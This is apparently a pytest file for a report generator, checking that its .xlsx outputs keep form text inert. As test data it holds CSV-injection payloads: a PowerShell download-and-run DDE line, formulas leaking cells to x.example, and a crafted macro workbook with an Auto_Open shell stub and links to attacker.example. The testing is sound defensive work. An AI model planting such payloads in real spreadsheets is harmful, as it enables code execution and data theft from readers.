"""Outputs that cannot attack their reader: a form's text never becomes a formula in any .xlsx reportgen writes.

The OWASP CSV-injection payloads go into a form's cells as text. `build --xlsx`, `split` (the
report back to forms) and `validate --annotate` (marked copies, from an .xlsx and from an .ods)
must write each of them as a string cell, quote-prefixed, with no <f> element anywhere; re-saved
by LibreOffice (to .xlsx and to CSV) it is still the text.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from books import canonical

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=HYPERLINK("http://x.example/?leak="&B7,"Нажмите")',
    '=WEBSERVICE("http://x.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://x.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "-",  # what clerks write for «none»: still a plain «-»
]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _form(path: Path) -> Path:
    """A form whose names and goals are the payloads, stored as text cells (as a clerk's quote-prefixed entry is);
    one row has dates that cannot be read, so the form gets a marked copy."""
    events = [[f"{i}.", p, "г. Вязьма", f"{i} апреля 2025 года", p, "10"] for i, p in enumerate(PAYLOADS, 1)]
    events.append([f"{len(PAYLOADS) + 1}.", PAYLOADS[0], "г. Вязьма", "когда-нибудь", PAYLOADS[2], -5])  # a number
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Мероприятия"
    for r, values in enumerate(canonical(*events), start=1):
        for c, value in enumerate(values, start=1):
            if isinstance(value, str):
                ws.cell(r, c, value).data_type = "s"
            elif value is not None:
                ws.cell(r, c, value)
    wb.save(path)
    assert "<f>" not in _sheets_xml(path)  # the input holds text, not formulas
    return path


def _sheets_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist()
                       if n.startswith("xl/worksheets/") and n.endswith(".xml"))


def _found(texts: set[str]) -> None:
    """Every payload is there as text (the reader may have dropped a leading tab or CR: control-chars)."""
    missing = [p for p in PAYLOADS if p not in texts and p.lstrip("\t\r") not in texts]
    assert missing == [], missing


def _all_text(path: Path, quote_prefixed: bool = True) -> set[str]:
    """The workbook's texts; asserts there is no formula anywhere and every risky text is a string cell."""
    xml = _sheets_xml(path)
    assert re.search(r"<(?:\w+:)?f[\s>/]", xml) is None, path.name
    texts = set()
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(RISKY):
                        assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
                        assert cell.quotePrefix or not quote_prefixed, (path.name, cell.coordinate, cell.value)
    return texts


def _through_office(paths: list[Path], out: Path) -> None:
    """Re-saved by LibreOffice, each is still text: no formula, and the first sheet as CSV holds the payloads."""
    from reportgen.write.office import convert

    for saved in convert(paths, "xlsx", out / "xlsx"):
        _found(_all_text(saved, quote_prefixed=False))
    for saved in convert(paths, "csv:Text - txt - csv (StarCalc):44,34,76", out / "csv"):
        with open(saved, encoding="utf-8", newline="") as f:
            _found({value for row in csv.reader(f) for value in row})


@pytest.fixture
def made(tmp_path, run):
    form = _form(tmp_path / "Вязьма.xlsx")
    assert run("build", form, "--force", "-o", tmp_path / "отчет.docx", "--xlsx", tmp_path / "сводная.xlsx").code == 0
    assert run("split", tmp_path / "отчет.docx", "-o", tmp_path / "формы").code == 0
    assert run("validate", form, "--annotate", tmp_path / "копии").code == 1
    return tmp_path


def test_table_and_split_forms_keep_payloads_as_text(made, office, ooxml, tmp_path):
    table = made / "сводная.xlsx"
    [form] = (made / "формы").iterdir()
    for path in (table, form):
        _found(_all_text(path))
    assert ooxml(table, form) == ""
    _through_office([table, form], tmp_path / "lo")


def test_marked_copy_keeps_payloads_as_text(made, office, ooxml, tmp_path):
    [copy] = (made / "копии").iterdir()
    _found(_all_text(copy))
    assert ooxml(copy) == ""
    last = openpyxl.load_workbook(copy)["Мероприятия"].cell(6 + len(PAYLOADS), 6)
    assert (last.value, last.data_type) == (-5, "n")  # a real negative number stays a number
    from reportgen.write.office import convert

    for saved in convert([copy], "xlsx", tmp_path / "lo"):
        _found(_all_text(saved, quote_prefixed=False))


def test_marked_copy_of_an_ods_keeps_payloads_as_text(made, office, ooxml, run, tmp_path):
    """An .ods (read by calamine, written anew) once had every «=…» text turned into a formula."""
    from reportgen.write.office import convert

    [ods] = convert([made / "Вязьма.xlsx"], "ods", tmp_path / "ods")
    assert run("validate", ods, "--annotate", tmp_path / "копии-ods").code == 1
    [copy] = (tmp_path / "копии-ods").iterdir()
    assert copy.name == "Вязьма.xlsx"
    _found(_all_text(copy))
    assert ooxml(copy) == ""


_CT_MACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_EXTERNAL_LINK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink '
    f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_NS_R}"><externalBook r:id="rId1">'
    '<sheetNames><sheetName val="Лист1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1">'
    '<cell r="A1" t="str"><v>секрет</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>')
_EXTERNAL_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
    'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    f'Type="{_NS_R}/externalLinkPath" Target="file://///attacker.example/share/book.xlsx" TargetMode="External"/>'
    '</Relationships>')
_CONNECTIONS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><connections '
    'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" '
    'refreshedVersion="6" background="1"><webPr url="http://attacker.example/data" htmlTables="1"/></connection>'
    '</connections>')


def _xlsm(path: Path) -> Path:
    """A form with findings, saved by openpyxl and zip-edited into what Excel writes for a macro workbook that links
    out: a VBA project, an external workbook (UNC) with a formula and a defined name using it, a web query, a web
    hyperlink and a named WEBSERVICE formula."""
    from openpyxl.workbook.defined_name import DefinedName

    from books import EVENTS

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Мероприятия"
    for r, values in enumerate(canonical(EVENTS[0], ["2.", "Встреча", "г. Вязьма", "когда-нибудь", "Цель", "5"]), 1):
        for c, value in enumerate(values, start=1):
            if value is not None:
                ws.cell(r, c, value)
    ws["H6"] = "=[1]Лист1!$A$1"
    ws["H7"] = '=WEBSERVICE("http://attacker.example/")'
    ws["J6"] = "ссылка"
    ws["J6"].hyperlink = "http://attacker.example/phish"
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.styles import PatternFill
    from openpyxl.worksheet.datavalidation import DataValidation

    fill = PatternFill("solid", fgColor="00FF00")
    ws.conditional_formatting.add("B6:B7", FormulaRule(formula=['WEBSERVICE("http://attacker.example/?"&B6)<>""'],
                                                       fill=fill))
    ws.conditional_formatting.add("C6:C7", FormulaRule(formula=['LEN(C6)>100'], fill=fill))  # stays
    for formula in ("[1]Лист1!$A$1:$A$3", '"да,нет"'):  # the second one stays
        validation = DataValidation(type="list", formula1=formula)
        validation.add("K6")
        ws.add_data_validation(validation)
    for name, text in (("Внешнее", "[1]Лист1!$A$1"), ("Свое", "'Мероприятия'!$B$6:$B$7"),
                       ("Запрос", 'WEBSERVICE("http://attacker.example/")')):
        wb.defined_names[name] = DefinedName(name, attr_text=text)
    plain = path.with_suffix(".tmp.xlsx")
    wb.save(plain)
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name in zin.namelist():
            data = zin.read(name).decode("utf-8")
            if name == "[Content_Types].xml":
                data = data.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                    _CT_MACRO).replace("</Types>", (
                    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/><Override '
                    'PartName="/xl/connections.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>'))
            elif name == "xl/_rels/workbook.xml.rels":
                data = data.replace("</Relationships>", (
                    '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                    f'Target="vbaProject.bin"/><Relationship Id="rIdE" Type="{_NS_R}/externalLink" '
                    f'Target="externalLinks/externalLink1.xml"/><Relationship Id="rIdC" Type="{_NS_R}/connections" '
                    'Target="connections.xml"/></Relationships>'))
            elif name == "xl/workbook.xml":
                data = data.replace("<workbook ", f'<workbook xmlns:r="{_NS_R}" ', 1).replace(
                    "</sheets>", '</sheets><externalReferences><externalReference r:id="rIdE"/></externalReferences>')
            z.writestr(name, data)
        z.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
                   + b'Attribute VB_Name = "Module1"\nSub Auto_Open()\nShell "calc"\nEnd Sub\n')
        z.writestr("xl/externalLinks/externalLink1.xml", _EXTERNAL_LINK)
        z.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", _EXTERNAL_RELS)
        z.writestr("xl/connections.xml", _CONNECTIONS)
    plain.unlink()
    return path


def _inert(data: bytes, ooxml, tmp_path: Path) -> None:
    """A marked copy holds the data and the marks only: no macros, links out, connections or outside names."""
    import io

    copy = tmp_path / "copy.xlsx"
    copy.write_bytes(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        package = "".join(z.read(n).decode("utf-8", "replace") for n in names)
    assert not [n for n in names if "vbaProject" in n or "externalLink" in n or "connections" in n], names
    assert "macroEnabled" not in package and 'TargetMode="External"' not in package
    assert "attacker.example" not in package and "[1]" not in package
    assert re.search(r"<(?:\w+:)?f[\s>/]", package) is None
    wb = openpyxl.load_workbook(copy)
    assert sorted(wb.defined_names) == ["Свое"]  # the name that points inside stays
    sheet = wb["Мероприятия"]
    assert [v.formula1 for v in sheet.data_validations.dataValidation] == ['"да,нет"']
    assert [r.formula for cf in sheet.conditional_formatting for r in cf.rules] == [["LEN(C6)>100"]]
    assert wb["Мероприятия"]["B7"].value == "Встреча" and wb["Мероприятия"]["D7"].fill.fgColor.rgb.endswith("FFC7CE")
    assert ooxml(copy) == ""


def test_marked_copy_of_an_xlsm_is_an_inert_xlsx(tmp_path, ooxml):
    """--annotate and letters, run as a user does: the copy is .xlsx with no macros or links out, and no
    «Exception ignored in ZipFile.__del__ … Traceback» reaches the terminal."""
    import email
    import email.policy
    import subprocess
    import sys

    form = _xlsm(tmp_path / "Вязьма.xlsm")
    for args in (["validate", form, "--annotate", tmp_path / "копии"], ["letters", form, "-o", tmp_path / "письма"]):
        proc = subprocess.run([sys.executable, "-m", "reportgen", *map(str, args)], capture_output=True, text=True,
                              timeout=120, cwd=tmp_path)
        assert proc.returncode in (0, 1), proc.stdout + proc.stderr
        assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr, proc.stderr
    [copy] = (tmp_path / "копии").iterdir()
    assert copy.name == "Вязьма.xlsx"
    _inert(copy.read_bytes(), ooxml, tmp_path)
    [draft] = (tmp_path / "письма").glob("Вяземский*.eml")
    msg = email.message_from_bytes(draft.read_bytes(), policy=email.policy.default)
    [part] = [p for p in msg.iter_attachments() if p.get_filename().endswith((".xlsx", ".xlsm"))]
    assert part.get_filename() == "Вязьма.xlsx"
    _inert(part.get_content(), ooxml, tmp_path)


def test_direction_overrides_never_reach_the_report(run, tmp_path):
    """U+202E and its kin make a cell show other text than it holds: dropped and named, as control characters."""
    from books import book
    from docx_text import read_report

    name = "Фестиваль \u202eанидуР\u202c дружбы \u2066x\u2069"
    form = book(tmp_path / "a.xlsx", ("Мероприятия", canonical(["1.", name, "г. Вязьма", "10 апреля 2025 года",
                                                                 "Цели", "10"])))
    found = run("validate", form, "--format", "json").json()
    named = [d for d in found["diagnostics"] if d["code"] == "control-chars"]
    assert len(named) == 1 and named[0]["cell"].startswith("B") and "U+202E" in named[0]["message"]
    assert run("build", form, "-o", tmp_path / "r.docx").code == 0
    cells = [c for row in read_report(tmp_path / "r.docx")[1] for c in row]
    assert "Фестиваль анидуР дружбы x" in cells
    assert not any(re.search("[\u202a-\u202e\u2066-\u2069]", c) for c in cells)
